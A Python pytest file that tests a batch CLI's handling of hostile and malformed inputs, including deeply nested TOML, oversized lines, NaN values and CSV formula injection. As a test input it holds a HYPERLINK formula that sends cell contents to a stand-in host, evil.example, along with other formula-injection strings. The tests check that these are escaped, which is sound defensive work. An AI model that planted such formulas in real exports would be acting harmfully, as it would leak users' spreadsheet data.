"""Hostile and broken inputs through ``producer-batch``: a clear message, exit 2, nothing written.

Issue 9, items 13 (traceback or half-write), 14 (formula injection in the CSV files we
write) and 15 (unclear messages). Each test drives the real CLI (typer's runner)
against a real Redis and checks the exact message.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
import redis
from typer.testing import CliRunner

from pipelines.batches.state import BatchState
from pipelines.batches.submit import submit_batch
from pipelines.cli import _mount, app
from pipelines.specs.loader import get_pipeline
from pipelines.spend.prices import PriceTable
from workers.ledger import Ledger, step_key
from workers.settings import get_settings

DEEP = 3000  # nesting levels: far past what tomllib's recursive parser survives
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def runner(redis_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[CliRunner]:
    monkeypatch.setenv("REDIS_URL", redis_url)
    for name in ("PRODUCER_SCHEDULES_FILE", "PRODUCER_PRICES_FILE", "PRODUCER_PIPELINES_FILE"):
        monkeypatch.delenv(name, raising=False)
    get_settings.cache_clear()
    _mount()
    # Wide: rich must not fold the messages the tests read.
    yield CliRunner(env={"COLUMNS": "600"})
    get_settings.cache_clear()


def refused(runner: CliRunner, *args: str) -> str:
    """Run the CLI, expect exit 2 without a traceback; the output with spaces normalised."""
    result = runner.invoke(app, list(args))
    assert result.exit_code == 2, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    return " ".join(result.output.split())


def our_keys(client: redis.Redis) -> list[bytes]:
    return sorted(client.keys("producer:*"))


def deep_toml(table: str) -> str:
    return f"{table}\nx = {'[' * DEEP}{']' * DEEP}\n"


# --- item 13: inputs that gave a traceback or a half-write ---------------------------


@pytest.mark.parametrize("every", ["99999999999999999999d", "400d"])
def test_an_interval_over_a_year_is_refused_before_anything_is_written(
    runner: CliRunner, redis_client: redis.Redis, tmp_path: Path, every: str
) -> None:
    out = refused(
        runner,
        *("schedules", "add", "huge", "--pipeline", "generate"),
        *("--csv", str(tmp_path / "rows.csv"), "--every", every),
    )
    assert (
        f"error: schedule 'huge': every: {every!r} is longer than the longest interval, "
        "366d (a year)" in out
    )
    assert our_keys(redis_client) == []


def test_a_schedules_file_with_an_overflowing_interval_writes_nothing(
    runner: CliRunner, redis_client: redis.Redis, tmp_path: Path
) -> None:
    path = tmp_path / "schedules.toml"
    path.write_text(
        '[schedules.fine]\npipeline = "generate"\ncsv = "/r.csv"\nevery = "1h"\n'
        '[schedules.huge]\npipeline = "generate"\ncsv = "/r.csv"\nevery = 1e300\n'
    )
    out = refused(runner, "schedules", "sync", "--file", str(path))
    assert "schedule 'huge': every: 1e+300 is longer than the longest interval" in out
    assert our_keys(redis_client) == []  # not even the valid schedule


def test_deeply_nested_toml_files_are_reported(
    runner: CliRunner, redis_client: redis.Redis, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    schedules = tmp_path / "schedules.toml"
    schedules.write_text(deep_toml("[schedules.a]"))
    out = refused(runner, "schedules", "sync", "--file", str(schedules))
    assert f"error: {schedules}: invalid TOML: arrays or tables nest too deeply" in out

    rows = tmp_path / "rows.csv"
    rows.write_text("prompt\nhello\n")
    pipelines = tmp_path / "pipelines.toml"
    pipelines.write_text(deep_toml("[pipelines.a]"))
    out = refused(
        runner, "submit", str(rows), "--pipeline", "generate", "--pipelines", str(pipelines)
    )
    assert f"error: {pipelines}: invalid TOML: arrays or tables nest too deeply" in out

    prices = tmp_path / "prices.toml"
    prices.write_text(deep_toml("[prices]"))
    monkeypatch.setenv("PRODUCER_PRICES_FILE", str(prices))
    get_settings.cache_clear()
    out = refused(runner, "submit", str(rows), "--pipeline", "generate", "--dry-run")
    assert f"error: {prices}: not valid TOML: arrays or tables nest too deeply" in out
    assert our_keys(redis_client) == []


def test_an_endless_line_is_refused_at_the_line_limit(
    runner: CliRunner, redis_client: redis.Redis
) -> None:
    # /dev/zero has no line break at all: read whole, it would fill memory.
    out = refused(runner, "submit", "/dev/zero", "--pipeline", "generate")
    assert "line 1 (the header) is over the limit of 1,048,576 bytes (1 MiB) a line" in out
    assert "nothing submitted: the file cannot be read as a batch" in out
    assert our_keys(redis_client) == []


def test_an_over_long_data_line_names_its_row(runner: CliRunner, tmp_path: Path) -> None:
    rows = tmp_path / "rows.csv"
    rows.write_bytes(b"prompt\nfirst\n" + b"x" * (2 << 20) + b"\n")
    out = refused(runner, "submit", str(rows), "--pipeline", "generate", "--dry-run")
    assert "line 3 (row 2) is over the limit of 1,048,576 bytes (1 MiB) a line" in out


# --- item 14: formula injection --------------------------------------------------------


def test_rejected_rows_are_written_with_formulas_escaped(runner: CliRunner, tmp_path: Path) -> None:
    rows = tmp_path / "rows.csv"
    with rows.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(
            [["prompt", "title", "weirdness"], [FORMULA, "\tTab", "5"], ["fine", "ok", "0.5"]]
        )
    errors = tmp_path / "errors.csv"
    refused(
        runner,
        *("submit", str(rows), "--pipeline", "generate", "--dry-run"),
        *("--errors-file", str(errors)),
    )
    written = list(csv.DictReader(errors.open(encoding="utf-8", newline="")))
    assert [(r["prompt"], r["title"], r["weirdness"]) for r in written] == [
        ("'" + FORMULA, "'\tTab", "5")
    ]


def test_manifest_and_errors_csv_escape_formulas_and_the_jsonl_keeps_them(
    runner: CliRunner, redis_client: redis.Redis, tmp_path: Path
) -> None:
    rows = tmp_path / "rows.csv"
    rows.write_text("prompt\none\ntwo\n")
    report = submit_batch(
        redis_client,
        prices=PriceTable.load(),
        source=str(rows),
        pipeline=get_pipeline("generate"),
        batch_id="b",
    )
    assert report.accepted == 2
    ledger, state = Ledger(redis_client), BatchState(redis_client)
    key = step_key("b", 1, "generate")
    ledger.reserve(key, fingerprint="f", owner="o")
    result = {"api_task_id": "-t1", "title": FORMULA, "model": "+cmd", "artifacts": []}
    ledger.mark_done(key, result=result)
    state.finish("b", 1)
    failure = {"step": "generate", "code": "api_error", "message": "@SUM(1+1)"}
    state.finish("b", 2, failure=failure)

    out = tmp_path / "out"
    done = runner.invoke(app, ["results", "b", "--out", str(out), "--no-store"])
    assert done.exit_code == 0, done.output
    (line,) = csv.DictReader(io.StringIO((out / "manifest.csv").read_text()))
    assert (line["title"], line["model"], line["api_task_id"]) == ("'" + FORMULA, "'+cmd", "'-t1")
    (error,) = csv.DictReader(io.StringIO((out / "errors.csv").read_text()))
    assert error["message"] == "'@SUM(1+1)"
    raw = json.loads((out / "manifest.jsonl").read_text())
    assert (raw["title"], raw["model"]) == (FORMULA, "+cmd")


# --- item 15: unclear messages -----------------------------------------------------------


def test_nan_cells_and_prices_are_called_not_a_number(
    runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = tmp_path / "rows.csv"
    rows.write_text("prompt,weirdness\nhello,nan\nhi,inf\n")
    out = refused(runner, "submit", str(rows), "--pipeline", "generate", "--dry-run")
    assert "column 'weirdness' (step 'generate', param 'weirdness'): 'nan' is not a number" in out
    assert "'inf' is not a finite number" in out
    assert ">= 0" not in out and "greater than" not in out

    prices = tmp_path / "prices.toml"
    prices.write_text("[prices]\ngenerate = nan\n")
    monkeypatch.setenv("PRODUCER_PRICES_FILE", str(prices))
    get_settings.cache_clear()
    rows.write_text("prompt\nhello\n")
    out = refused(runner, "submit", str(rows), "--pipeline", "generate", "--dry-run")
    assert (
        f"error: {prices}: prices: prices must be finite and >= 0 (generate: not a number (nan))"
        in out
    )

    out = refused(
        runner,
        *("schedules", "add", "s", "--pipeline", "generate", "--csv", str(rows)),
        *("--every", "1h", "--max-spend", "nan"),
    )
    assert "error: schedule 's': max_spend: Input should be a finite number" in out


def test_cr_line_endings_are_named(runner: CliRunner, tmp_path: Path) -> None:
    rows = tmp_path / "rows.csv"
    rows.write_bytes(b"prompt\rhello\rworld\r")
    out = refused(runner, "submit", str(rows), "--pipeline", "generate", "--dry-run")
    assert (
        "line 1: the file uses CR line endings (a carriage return without a line feed, "
        "old Mac style); save it with LF or CRLF line endings" in out
    )
    assert "newline mode" not in out

    rows.write_bytes(b"prompt\nfine\nstray\rcr\n")  # LF endings, one bare CR in a cell
    out = refused(runner, "submit", str(rows), "--pipeline", "generate", "--dry-run")
    assert (
        "line 3: a carriage return (CR) in an unquoted field; quote the field or remove it" in out
    )


def test_a_balanced_field_over_the_limit_is_not_called_an_unbalanced_quote(
    runner: CliRunner, tmp_path: Path
) -> None:
    rows = tmp_path / "rows.csv"
    # 10 MB in one well-quoted field, over many short lines.
    rows.write_bytes(b'prompt\n"' + (b"x" * 999 + b"\n") * 10_000 + b'"\n')
    out = refused(runner, "submit", str(rows), "--pipeline", "generate", "--dry-run")
    assert "line 2: a field is over the limit of 1,000,000 characters" in out
    assert "unbalanced" not in out


def write_pipeline(path: Path, steps: int, repeat: int = 1) -> None:
    step = 'action = "generate"\nparams = {{ prompt = "{{row.prompt}}" }}\n'
    path.write_text(
        "".join(
            f'[[pipelines.big.steps]]\nname = "s{i}"\nrepeat = {repeat}\n' + step.format()
            for i in range(steps)
        )
    )


def test_a_pipeline_over_the_steps_limit_is_refused_naming_the_setting(
    runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = tmp_path / "rows.csv"
    rows.write_text("prompt\nhello\n")
    pipelines = tmp_path / "pipelines.toml"
    write_pipeline(pipelines, 5000)
    args = ("submit", str(rows), "--pipeline", "big", "--pipelines", str(pipelines), "--dry-run")
    out = refused(runner, *args)
    assert (
        "pipeline 'big': 5000 steps per row (each repeated copy counted) is over the "
        "limit of 20 (PRODUCER_MAX_STEPS_PER_ROW)" in out
    )

    write_pipeline(pipelines, 2, repeat=3)  # 6 paid calls a row
    monkeypatch.setenv("PRODUCER_MAX_STEPS_PER_ROW", "5")
    get_settings.cache_clear()
    assert "6 steps per row (each repeated copy counted) is over the limit of 5" in refused(
        runner, *args
    )
    monkeypatch.setenv("PRODUCER_MAX_STEPS_PER_ROW", "6")
    get_settings.cache_clear()
    assert runner.invoke(app, list(args)).exit_code == 0


def test_ledger_list_says_when_it_stops_at_the_limit(
    runner: CliRunner, redis_client: redis.Redis
) -> None:
    ledger = Ledger(redis_client)
    for row in range(3):
        ledger.reserve(f"b/{row}/generate", fingerprint=str(row), owner="o")

    cut = runner.invoke(app, ["ledger", "list", "--limit", "2"])
    assert cut.exit_code == 0, cut.output
    assert "showing the first 2 entries; more exist (raise --limit to see them)" in cut.stderr
    assert "(2 shown, more exist)" in cut.stdout

    whole = runner.invoke(app, ["ledger", "list", "--limit", "3"])
    assert "(3 shown)" in whole.output and "more exist" not in whole.output

    as_json = runner.invoke(app, ["ledger", "list", "--limit", "2", "--json"])
    assert len(json.loads(as_json.stdout)) == 2
    assert "more exist (raise --limit to see them)" in as_json.stderr
